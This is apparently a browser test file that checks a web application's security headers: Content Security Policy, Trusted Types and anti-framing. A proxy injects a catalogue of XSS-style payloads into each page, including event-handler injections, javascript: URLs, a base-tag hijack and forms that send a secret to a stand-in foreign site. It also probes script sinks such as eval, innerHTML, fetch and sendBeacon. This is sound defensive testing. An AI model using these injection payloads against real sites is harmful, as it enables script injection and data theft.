// What the headers of our pages are worth in a real Chromium. On every page: markup that got in by a hole in our
// escaping (put in on its way here) runs nothing, loads nothing and sends nothing; the sinks of script are shut by
// Trusted Types; nobody frames it. And none of that is paid for by a page that breaks its own policy.

import assert from "node:assert/strict";
import { request as httpRequest } from "node:http";
import { test } from "node:test";
import { startBrowser } from "../browser.mjs";
import { figure, isFull } from "../figures.mjs";
import { startEdgeward } from "../harness.mjs";
import { startOwnOrigin } from "../own_origin.mjs";
import { everyPage, limits, settlesIn } from "./our_pages.mjs";

const row = "browser_truth";
const timeout = 180_000;
const ann = { email: "ann@example.com", password: "seven lazy herons over Bergen" };

/** What somebody would put into a page, by what it is; `foreign` is a site of theirs. */
const markup = (foreign) => ({
  "inline script": `<script>window.ran = "script"</script>`,
  "module script": `<script type="module">window.ran = "module"</script>`,
  "script of another nonce": `<script nonce="bm9uY2U">window.ran = "nonce"</script>`,
  "foreign script": `<script src="${foreign}/script.js"></script>`,
  "script from data": `<script src="data:text/javascript,window.ran='data'"></script>`,
  "preloaded script": `<link rel="modulepreload" href="${foreign}/preload.js">`,
  "handler of an image": `<img src="x:" onerror="window.ran = 'onerror'">`,
  "handler of svg": `<svg onload="window.ran = 'svg'"></svg>`,
  "handler of details": `<details open ontoggle="window.ran = 'toggle'">x</details>`,
  "handler with focus": `<input autofocus onfocus="window.ran = 'focus'">`,
  "frame with its own text": `<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>`,
  "frame of a script": `<iframe src="javascript:parent.ran = 'frame'"></iframe>`,
  "foreign frame": `<iframe src="${foreign}/frame"></iframe>`,
  "foreign object": `<object data="${foreign}/object"></object><embed src="${foreign}/embed">`,
  "foreign image": `<img src="${foreign}/image.png">`,
  "foreign style": `<link rel="stylesheet" href="${foreign}/style.css"><style>@import "${foreign}/import.css";</style>`,
  "foreign font": `<style>@font-face { font-family: x; src: url("${foreign}/font") } h1 { font-family: x }</style>`,
  "style element": `<style>html { --element: got-in }</style>`,
  "style attribute": `<p id="styled" style="--attribute: got-in">x</p>`,
  "base": `<base href="${foreign}/base/">`,
  "link of a script": `<a id="scripted" href="javascript:window.ran = 'href'">x</a>`,
  "form that goes elsewhere": `<form id="away" action="${foreign}/form" method="post"><input name="secret" value="1"></form>`,
  "form that goes elsewhere to ask": `<form id="asks" action="${foreign}/asked"><input name="secret" value="1"></form>`,
  "button that sends our form elsewhere": `<form id="ours" action="/login" method="post"><button id="elsewhere" formaction="${foreign}/button">x</button></form>`,
  "manifest and video": `<link rel="manifest" href="${foreign}/manifest"><video src="${foreign}/video" autoplay></video>`,
});

/** A site of somebody else's that writes down what it is asked. */
async function startForeignSite(t) {
  const asked = [];
  const url = await startOwnOrigin(t, (request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Content-Type": "text/html", "Access-Control-Allow-Origin": "*" }).end("<p>foreign</p>");
  });
  return { url, asked };
}

async function scene(t) {
  const house = await startEdgeward(t, { settings: { LIMITS: limits }, unopenedMail: true });
  const foreign = await startForeignSite(t);
  const browser = await startBrowser(t);
  const page = await browser.newPage();
  await settlesIn(page, house, ann);
  return { t, house, foreign, page, pages: await everyPage(house) };
}

/** Pages of scripts and programs are not for people; what they show is JSON or a refusal, under the same policy. */
const isHtml = (answer) => /^text\/html/.test(answer?.headers()["content-type"] ?? "");

async function keepsItsPolicy({ page, pages }) {
  const complaints = [];
  page.on("console", (message) => /content security policy|trusted/i.test(message.text()) && complaints.push(`${page.url()}: ${message.text()}`));
  page.on("pageerror", (error) => complaints.push(String(error)));
  const seen = [];
  for (const [name, url] of pages) {
    const answer = await page.goto(url);
    const cookie = await page.evaluate("document.cookie");
    if (cookie !== "") complaints.push(`${name}: ${cookie}`);
    const csp = answer.headers()["content-security-policy"];
    if (!url.includes("%2500") && !csp?.includes("require-trusted-types-for 'script'")) complaints.push(`${name}: ${csp}`);
    seen.push(answer.status());
  }
  figure(row, { tried: pages.length, survived: Math.max(0, pages.length - complaints.length) });
  assert.deepEqual(complaints, []);
  assert.ok(seen.filter((status) => status === 200).length > 15, `most are pages: ${seen}`);
}

/** What stands between the browser and us and puts markup into our pages. `allows`: it takes the policy out, too. */
async function startMeddler(t, house, all) {
  const head = Object.values(all).filter((one) => /^<(base|link|style)/.test(one)).join("\n");
  const body = Object.values(all).join("\n");
  const meddler = { allows: false };
  const url = await startOwnOrigin(t, (request, response) => {
    const headers = { ...request.headers, host: new URL(house.url).host, "accept-encoding": "identity" };
    const asked = httpRequest({ host: "127.0.0.1", port: house.port, path: request.url, method: request.method, headers }, async (answer) => {
      const { "content-length": _, "content-security-policy": policy, ...kept } = answer.headers;
      const bytes = Buffer.concat(await answer.toArray());
      const isPage = /^text\/html/.test(kept["content-type"] ?? "");
      const text = () => bytes.toString().replace("<head>", `<head>${meddler.allows ? "" : head}`).replace("</main>", `${body}</main>`);
      response.writeHead(answer.statusCode, { ...kept, ...(meddler.allows ? {} : { "content-security-policy": policy ?? "" }) }).end(isPage ? text() : bytes);
    });
    request.pipe(asked.on("error", () => response.destroy()));
  });
  return Object.assign(meddler, { url: url.replace("127.0.0.1", "localhost") });
}

async function withstandsMarkup({ t, house, foreign, page, pages }) {
  const all = markup(foreign.url);
  const meddler = await startMeddler(t, house, all);
  const misses = [];
  let tried = 0;
  for (const [name, url] of pages.filter((_, i) => isFull || i % 2 === 0)) {
    if (!isHtml(await page.goto(url.replace(house.url, meddler.url)))) continue;
    tried += Object.keys(all).length;
    assert.ok(await page.locator("#away").count(), `${name}: it was put in`);
    const here = page.url();
    for (const act of ["scripted", "elsewhere", "away", "asks"]) {
      await page.evaluate((id) => (document.getElementById(id).submit ?? document.getElementById(id).click).call(document.getElementById(id)), act);
    }
    // What was pressed has had its turn when a task that was queued after it runs.
    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0))));
    const got = await page.evaluate(() => ({
      ran: window.ran,
      base: document.baseURI,
      element: getComputedStyle(document.documentElement).getPropertyValue("--element"),
      attribute: getComputedStyle(document.getElementById("styled")).getPropertyValue("--attribute"),
    }));
    if (got.ran !== undefined) misses.push(`${name}: ${got.ran} ran`);
    if (got.element || got.attribute) misses.push(`${name}: a style was taken`);
    if (new URL(got.base).origin !== meddler.url) misses.push(`${name}: base ${got.base}`);
    if (page.url() !== here) misses.push(`${name}: led to ${page.url()}`);
  }
  misses.push(...foreign.asked);
  figure(row, { tried, survived: Math.max(0, tried - misses.length) });
  assert.deepEqual(misses, []);
  assert.ok(tried > 200, `${tried}`);

  // The trial itself: without the policy all of that comes to something.
  meddler.allows = true;
  await page.goto(`${meddler.url}/login`);
  assert.ok(await page.evaluate("window.ran"), "a script runs");
  assert.ok(foreign.asked.length > 5, `foreign things are loaded: ${foreign.asked}`);
  await page.goto("about:blank");
  foreign.asked.length = 0;
}

/** What a script would do to run another. It runs as a task of the page's own, since what a debugger runs is let off. */
const sinks = (foreign) => {
  const attempt = {
    eval: () => eval("window.ran = 'eval'"),
    Function: () => new Function("window.ran = 'Function'")(),
    setTimeout: () => setTimeout("window.ran = 'timeout'", 0),
    innerHTML: () => (document.createElement("div").innerHTML = "<img src=x: onerror=\"window.ran = 'innerHTML'\">"),
    outerHTML: () => (document.querySelector("h1").outerHTML = "<p>x</p>"),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<p id=inserted>x</p>"),
    write: () => document.write("<p id=written>x</p>"),
    parseFromString: () => new DOMParser().parseFromString("<p>x</p>", "text/html"),
    createContextualFragment: () => document.createRange().createContextualFragment("<p>x</p>"),
    srcdoc: () => (document.createElement("iframe").srcdoc = "<p>x</p>"),
    setHTMLUnsafe: () => document.createElement("div").setHTMLUnsafe("<p>x</p>"),
    scriptText: () => (document.createElement("script").text = "window.ran = 'text'"),
    scriptSource: () => (document.createElement("script").src = `${foreign}/sink.js`),
    handler: () => document.createElement("p").setAttribute("onclick", "window.ran = 'handler'"),
    policy: () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
    defaultPolicy: () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
    worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    import: () => import(`${foreign}/module.js`),
    fetch: () => fetch(`${foreign}/fetch`, { mode: "no-cors" }),
    beacon: () => navigator.sendBeacon(`${foreign}/beacon`, "x") && undefined,
    socket: () => {
      const socket = new WebSocket(foreign.replace("http", "ws"));
      return new Promise((opened, refused) => {
        socket.onopen = opened;
        socket.onerror = refused;
      });
    },
  };
  const through = [];
  const one = async ([name, act]) => {
    try {
      await act();
      through.push(name);
    } catch {
      // Refused, as it should be.
    }
  };
  return new Promise((done) => setTimeout(() => Promise.all(Object.entries(attempt).map(one)).then(() => done({ through, tried: Object.keys(attempt).length, ran: window.ran })), 0));
};

async function shutsItsSinks({ foreign, page, pages }) {
  const misses = [];
  let total = 0;
  for (const [name, url] of pages) {
    if (!isHtml(await page.goto(url))) continue;
    const { through, tried, ran } = await page.evaluate(sinks, foreign.url);
    total += tried;
    // A beacon says that it was queued, and is dropped: the foreign site tells.
    misses.push(...through.filter((sink) => sink !== "beacon").map((sink) => `${name}: ${sink}`));
    if (ran !== undefined) misses.push(`${name}: ${ran} ran`);
  }
  misses.push(...foreign.asked);
  figure(row, { tried: total, survived: Math.max(0, total - misses.length) });
  assert.deepEqual(misses, []);
  assert.ok(total > 300, `${total}`);
}

async function isNeverFramed({ house, foreign, page, pages }) {
  const misses = [];
  const some = isFull ? pages : pages.filter((_, i) => i % 3 === 0 || i < 7);
  const hosts = { foreign: `${foreign.url}/`, own: `${house.url}/public/` };
  for (const [place, host] of Object.entries(hosts)) {
    // The application's own page says nothing against frames, as most do.
    await page.route(host, (route) => route.fulfill({ contentType: "text/html", body: "<p>host</p>" }));
    await page.goto(host);
    for (const [name, url] of some) {
      for (const tag of isFull ? ["iframe", "object", "embed"] : ["iframe"]) {
        const shown = await page.evaluate(
          ([tag, url]) =>
            new Promise((done) => {
              const frame = document.createElement(tag);
              frame[tag === "object" ? "data" : "src"] = url;
              const tell = () => {
                let text = "";
                try {
                  text = frame.contentDocument?.body?.textContent ?? "";
                } catch {
                  // Of another origin: the frames of the page tell.
                }
                done(text);
              };
              frame.onload = tell;
              frame.onerror = tell;
              document.body.append(frame);
            }),
          [tag, url],
        );
        const framed = page.frames().filter((frame) => frame.parentFrame() && !/^(chrome-error|about):/.test(frame.url()));
        const isShown = shown.trim() !== "" || (await Promise.all(framed.map((frame) => frame.evaluate("document.body?.innerText ?? ''").catch(() => "")))).some((text) => text.trim() !== "");
        if (isShown) misses.push(`${name} in ${tag} of ${place}`);
        await page.evaluate((tag) => document.querySelector(tag).remove(), tag);
        figure(row, { tried: 1, survived: isShown ? 0 : 1 });
      }
    }
    await page.unroute(host);
  }
  assert.deepEqual(misses, []);
  // The trial itself: what allows it is shown.
  await page.goto(`${foreign.url}/`);
  await page.evaluate((url) => new Promise((done) => document.body.append(Object.assign(document.createElement("iframe"), { src: url, onload: done }))), `${foreign.url}/frame`);
  assert.ok(page.frames().some((frame) => frame.url().endsWith("/frame")));
}

const trials = {
  "in its normal use none breaks its policy, and no script sees a cookie": keepsItsPolicy,
  "markup that got in runs nothing, loads nothing and sends nothing": withstandsMarkup,
  "the sinks by which a script makes another are shut": shutsItsSinks,
  "none is shown in a frame, of another site or of the application's own": isNeverFramed,
};

test("every page of ours in a real browser", { timeout: 600_000 }, async (t) => {
  const all = await scene(t);
  for (const [title, trial] of Object.entries(trials)) await t.test(title, { timeout }, () => trial(all));
});
